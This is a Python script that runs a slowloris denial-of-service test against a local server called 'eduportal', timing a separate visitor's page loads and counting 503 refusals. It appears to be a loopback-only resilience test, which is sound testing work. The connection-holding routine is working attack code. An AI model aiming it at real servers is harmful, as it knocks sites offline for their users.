"""Held and slow connections against eduportal, and a visitor from another address.

From ATTACK_ADDR (127.0.0.1) it keeps HELD connections open, each sending half a
request head and then one more byte now and then (slowloris), opening a new one
whenever the server closes one. Meanwhile, from VISITOR_ADDR (127.0.0.2), a visitor
asks for PATH again and again, one request per connection as a browser's first
visit does, and the latencies are reported (p50, p90, p99, max, failures).

Usage: python3 attack.py PORT [HELD=5000] [SECONDS=20] [PATH=/]
Only loopback addresses are used.
"""

import asyncio
import resource
import socket
import sys
import time

ATTACK_ADDR = "127.0.0.1"
VISITOR_ADDR = "127.0.0.2"


def raise_files():
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


async def hold_one(port, stats, stop):
    while not stop.is_set():
        try:
            reader, writer = await asyncio.open_connection(
                "127.0.0.1", port, local_addr=(ATTACK_ADDR, 0))
        except OSError:
            stats["connect_errors"] += 1
            await asyncio.sleep(0.5)
            continue
        stats["opened"] += 1
        try:
            writer.write(b"GET / HTTP/1.1\r\nHost: localhost\r\nX-Cham: ")
            await writer.drain()
            while not stop.is_set():
                # One byte every 2 s; a refused or closed connection ends this.
                try:
                    data = await asyncio.wait_for(reader.read(512), timeout=2)
                except asyncio.TimeoutError:
                    writer.write(b"a")
                    await writer.drain()
                    continue
                if data.startswith(b"HTTP/1.1 503"):
                    stats["refused_503"] += 1
                if not data:
                    break
                break
        except (OSError, ConnectionError):
            pass
        finally:
            stats["closed"] += 1
            writer.close()
        await asyncio.sleep(0.2)


def visit(port, path):
    s = socket.socket()
    s.settimeout(10)
    s.bind((VISITOR_ADDR, 0))
    started = time.perf_counter()
    s.connect(("127.0.0.1", port))
    s.sendall(f"GET {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n".encode())
    chunks = []
    while True:
        b = s.recv(65536)
        if not b:
            break
        chunks.append(b)
    s.close()
    took = time.perf_counter() - started
    return took, b"".join(chunks)[:12]


async def main():
    port = int(sys.argv[1])
    held = int(sys.argv[2]) if len(sys.argv) > 2 else 5000
    seconds = float(sys.argv[3]) if len(sys.argv) > 3 else 20
    path = sys.argv[4] if len(sys.argv) > 4 else "/"
    raise_files()
    stats = {"opened": 0, "closed": 0, "refused_503": 0, "connect_errors": 0}
    stop = asyncio.Event()
    holders = [asyncio.create_task(hold_one(port, stats, stop)) for _ in range(held)]
    # Let the pile build up before the visitor comes.
    await asyncio.sleep(3)
    loop = asyncio.get_running_loop()
    times, failures = [], 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            took, head = await loop.run_in_executor(None, visit, port, path)
            if head.startswith(b"HTTP/1.1 200"):
                times.append(took)
            else:
                failures += 1
        except OSError:
            failures += 1
    stop.set()
    for t in holders:
        t.cancel()
    await asyncio.gather(*holders, return_exceptions=True)
    times.sort()

    def pct(p):
        return times[min(len(times) - 1, int(len(times) * p))] * 1000 if times else float("nan")

    print(f"held connections asked: {held}; opened {stats['opened']}, "
          f"refused with 503: {stats['refused_503']}, closed: {stats['closed']}, "
          f"connect errors: {stats['connect_errors']}")
    print(f"visitor from {VISITOR_ADDR}: {len(times)} pages, {failures} failures; "
          f"p50 {pct(0.5):.2f} ms, p90 {pct(0.9):.2f} ms, p99 {pct(0.99):.2f} ms, "
          f"max {times[-1] * 1000 if times else float('nan'):.2f} ms")


asyncio.run(main())
